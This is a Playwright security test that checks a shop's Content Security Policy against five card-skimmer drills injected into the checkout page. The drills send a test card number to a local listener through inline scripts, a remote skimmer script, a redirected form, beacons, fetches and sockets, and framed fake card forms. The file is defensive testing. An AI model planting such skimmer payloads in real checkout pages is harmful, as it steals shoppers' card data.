import { expect, type Page } from 'playwright/test'
import { Buyer } from '../fixtures/buyer'
import { openListener } from '../fixtures/listener'
import type { Attack } from './attack'

/** What somebody does who has managed to write into the page of the checkout. `elsewhere` is where card numbers would go. */
const drills: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> = {
  'an inline script': (page, elsewhere) =>
    page.evaluate((url) => {
      const script = document.createElement('div')
      script.innerHTML = `<img src="x" onerror="window.skimmed=1;fetch('${url}/inline')">`
      document.body.append(script)
      const markup = document
        .createRange()
        .createContextualFragment(`<script>window.skimmed=1;fetch('${url}/inline')</script>`)
      document.body.append(markup)
    }, elsewhere),
  'a script from elsewhere': (page, elsewhere) =>
    page.evaluate((url) => {
      document.body.append(document.createRange().createContextualFragment(`<script src="${url}/skimmer.js"></script>`))
      document.body.insertAdjacentHTML(
        'beforeend',
        `<link rel="stylesheet" href="${url}/style.css"><base href="${url}/">`,
      )
    }, elsewhere),
  'the form sent elsewhere': (page, elsewhere) =>
    page.evaluate((url) => {
      const form = document.createElement('form')
      form.action = `${url}/form`
      form.method = 'post'
      form.innerHTML = '<input name="card" value="4242424242424242">'
      document.body.append(form)
      form.submit()
    }, elsewhere),
  'a picture, a beacon, a fetch and a socket': (page, elsewhere) =>
    page.evaluate(async (url) => {
      new Image().src = `${url}/picture?card=4242`
      navigator.sendBeacon(`${url}/beacon`, 'card=4242')
      await fetch(`${url}/fetch`, { method: 'POST', mode: 'no-cors', body: 'card=4242' }).catch(() => null)
      try {
        new WebSocket(`${url.replace('http', 'ws')}/socket`)
        new EventSource(`${url}/events`)
      } catch {
        // Refused at once.
      }
    }, elsewhere),
  'a form for cards in a frame': (page, elsewhere) =>
    page.evaluate((url) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<iframe src="${url}/cards"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
      )
      const frame = document.createElement('iframe')
      frame.srcdoc = `<form action="${url}/frame"><input name="card"></form><script>parent.skimmed=1</script>`
      document.body.append(frame)
    }, elsewhere),
}

export const skimmers: Attack = {
  id: 'S46',
  attack: 'skimmer drill in checkout: inline, remote script, form-action, img/beacon exfil, fake card form',
  expected: '5/5 blocked by CSP in a real browser; inventory test fails the build',
  asvs: '3.4.3',
  run: async ({ browser, openShop }) => {
    const shop = await openShop()
    const elsewhere = await openListener('window.skimmed=1', 'text/javascript')
    const context = await browser.newContext()
    const kept: string[] = []
    await context.exposeFunction('tellHit', (hit: string) => kept.push(hit))
    await context.addInitScript(() => {
      addEventListener('securitypolicyviolation', (event) => {
        Reflect.get(window, 'tellHit')(event.violatedDirective)
      })
    })
    const page = await context.newPage()
    try {
      const buyer = new Buyer(page, shop)
      await buyer.landsOn('/listing/corner-tee')
      await buyer.addsToCart()
      await buyer.goesToCart()
      await buyer.startsCheckout()
      const address = page.url()
      expect(kept, 'before any drill').toEqual([])
      for (const [name, drill] of Object.entries(drills)) {
        const before = kept.length
        await drill(page, elsewhere.url)
        await expect.poll(() => kept.length, name).toBeGreaterThan(before)
        expect(await page.evaluate(() => 'skimmed' in window), name).toBe(false)
        expect(page.url(), name).toBe(address)
      }
      expect(elsewhere.visits).toEqual([])
      return { seen: `5 of 5 blocked, ${kept.length} reports of the policy, 0 calls arrived elsewhere` }
    } finally {
      await context.close()
      elsewhere.stop()
    }
  },
}
